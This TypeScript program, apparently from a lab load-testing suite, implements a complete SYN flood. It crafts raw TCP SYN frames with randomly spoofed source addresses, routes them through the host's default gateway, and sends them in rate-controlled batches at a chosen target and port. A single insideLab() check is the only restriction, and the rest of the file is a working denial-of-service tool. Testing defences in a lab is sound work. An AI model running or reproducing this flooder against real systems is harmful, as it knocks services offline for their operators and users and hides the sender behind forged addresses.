/**
 * Connection requests with random sources, as an attacker sends them:
 *
 *   node load/synFloodProgram.js --target 10.0.0.100:80 --count 200000 --rate 20000 --seconds 30
 *
 * Frames go to the default gateway of the host. Runs inside a lab world only. Prints `SynFloodReport` as JSON.
 */
import { Command } from 'commander';
import { randomBytes } from 'node:crypto';
import { createSocket } from 'node:dgram';
import { readFile } from 'node:fs/promises';
import { FrameSender, findLink, listNeighbours, NativeMemory, VNET_HEADER_BYTES } from 'libnetraw';
import {
  encodeEthernet,
  encodeIpv4,
  encodeTcp,
  ETHERNET_HEADER_BYTES,
  EtherType,
  fillTransportChecksum4,
  formatIpv4,
  IPV4_HEADER_BYTES,
  parseIpv4,
  TCP_HEADER_BYTES,
  TcpFlag,
} from 'libnetraw/wire';
import { nowMs } from '../clock.js';
import { insideLab } from '../world/enter.js';
import type { SynFloodReport } from './synFlood.js';
import { parseTarget } from './target.js';

const BATCH = 64;
const SLOT_BYTES = 128;
const FRAME_BYTES = ETHERNET_HEADER_BYTES + IPV4_HEADER_BYTES + TCP_HEADER_BYTES;
const TCP = 6;
/** 32-bit random words of one draw. */
const RANDOM_WORDS = 4096;
const RESOLVE_MS = 3000;
const DISCARD_PORT = 9;

interface Flood {
  readonly target: { readonly host: string; readonly port: number };
  readonly count: number;
  readonly rate: number;
  readonly seconds: number;
  readonly sources: string;
}

interface Path {
  readonly interface: string;
  readonly ownMac: Uint8Array;
  readonly gatewayMac: Uint8Array;
}

function flags(): Flood {
  return new Command('synFlood')
    .requiredOption('--target <address:port>', 'what to flood', (text) => parseTarget(text))
    .requiredOption('--count <n>', 'connection requests in all', Number)
    .option('--rate <n>', 'connection requests a second, 0 for as many as possible', Number, 0)
    .option('--seconds <n>', 'end after so long', Number, 30)
    .option('--sources <network>', 'where source addresses are from', '198.18.0.0/15')
    .parse()
    .opts<Flood>();
}

/** The interface and the next hop of the default route, with the MAC that the kernel resolves. */
async function findPath(): Promise<Path> {
  const { name, gateway } = await defaultRoute();
  const link = findLink(name);
  if (link === undefined) throw new Error(`there is no interface ${name}`);
  const socket = createSocket('udp4');
  const deadline = nowMs() + RESOLVE_MS;
  try {
    for (;;) {
      const known = listNeighbours().find(({ address, mac }) => address === gateway && mac?.length === 6);
      if (known?.mac !== undefined) return { interface: name, ownMac: link.mac, gatewayMac: known.mac };
      if (nowMs() > deadline) throw new Error(`the gateway ${gateway} does not answer`);
      socket.send(Buffer.alloc(1), DISCARD_PORT, gateway, () => undefined);
      await new Promise((resolve) => setTimeout(resolve, 50));
    }
  } finally {
    socket.close();
  }
}

/** From /proc/net/route: numbers in hexadecimal, addresses byte-swapped. */
async function defaultRoute(): Promise<{ name: string; gateway: string }> {
  const lines = (await readFile('/proc/net/route', 'latin1')).trim().split('\n').slice(1);
  for (const line of lines) {
    const [name, destination, gateway] = line.split('\t');
    if (destination !== '00000000') continue;
    const address = Buffer.from(gateway, 'hex').readUInt32LE();
    return { name, gateway: formatIpv4(address) };
  }
  throw new Error('this host has no default gateway');
}

/** Random numbers by the thousand. */
class RandomWords {
  #words = new Uint32Array(RANDOM_WORDS);
  #used = RANDOM_WORDS;

  next(): number {
    if (this.#used === RANDOM_WORDS) {
      const bytes = randomBytes(RANDOM_WORDS * 4);
      this.#words = new Uint32Array(bytes.buffer, bytes.byteOffset, RANDOM_WORDS);
      this.#used = 0;
    }
    return this.#words[this.#used++];
  }
}

/** Writes one connection request after the other. */
class Requests {
  readonly #random = new RandomWords();
  readonly #path: Path;
  readonly #destination: number;
  readonly #port: number;
  readonly #network: number;
  readonly #hostMask: number;

  constructor(path: Path, flood: Flood) {
    const [network, prefix = '32'] = flood.sources.split('/');
    const address = parseIpv4(network);
    const destination = parseIpv4(flood.target.host);
    const prefixBits = Number(prefix);
    if (address === undefined || !Number.isInteger(prefixBits) || prefixBits < 1 || prefixBits > 32) {
      throw new Error(`--sources wants an IPv4 network such as 198.18.0.0/15, not ${flood.sources}`);
    }
    if (destination === undefined)
      throw new Error(`--target wants an IPv4 address, not ${flood.target.host}`);
    this.#path = path;
    this.#destination = destination;
    this.#port = flood.target.port;
    this.#hostMask = 2 ** (32 - prefixBits) - 1;
    this.#network = (address & ~this.#hostMask) >>> 0;
  }

  write(memory: Uint8Array, offset: number): void {
    const word = this.#random.next();
    const source = this.#network + (this.#random.next() & this.#hostMask);
    let at = encodeEthernet(memory, offset, this.#path.gatewayMac, this.#path.ownMac, EtherType.ipv4);
    const ip = {
      source,
      destination: this.#destination,
      protocol: TCP,
      payloadLength: TCP_HEADER_BYTES,
      ttl: 64,
    };
    at = encodeIpv4(memory, at, ip);
    const sourcePort = 1024 + (word % 64_000);
    const tcp = { sourcePort, destinationPort: this.#port, flags: TcpFlag.syn, sequence: word };
    encodeTcp(memory, at, tcp);
    fillTransportChecksum4(memory, at, TCP_HEADER_BYTES, source, this.#destination, TCP);
  }
}

function run(flood: Flood, path: Path): SynFloodReport {
  const requests = new Requests(path, flood);
  const sender = FrameSender.open({ interface: path.interface, batch: BATCH });
  const memory = NativeMemory.allocate(BATCH * SLOT_BYTES);
  const pause = new Int32Array(new SharedArrayBuffer(4));
  const startMs = nowMs();
  const endMs = startMs + flood.seconds * 1000;
  let made = 0;
  while (made < flood.count) {
    const now = nowMs();
    if (now >= endMs) break;
    const due = flood.rate === 0 ? flood.count : ((now - startMs) * flood.rate) / 1000;
    const batch = Math.min(BATCH, flood.count - made, Math.floor(due) - made);
    if (batch <= 0) {
      Atomics.wait(pause, 0, 0, 1);
      continue;
    }
    for (let i = 0; i < batch; i++) {
      const start = i * SLOT_BYTES;
      requests.write(memory.bytes, start + VNET_HEADER_BYTES);
      sender.queue(memory, start, VNET_HEADER_BYTES + FRAME_BYTES);
    }
    sender.flush();
    made += batch;
  }
  const { sent } = sender.counters;
  sender.close();
  return { sent, dropped: made - sent, tookMs: Math.round(nowMs() - startMs) };
}

const flood = flags();
if (!insideLab()) {
  process.stderr.write('The SYN flood runs inside a lab world only.\n');
  process.exit(1);
}
process.stdout.write(`${JSON.stringify(run(flood, await findPath()))}\n`);
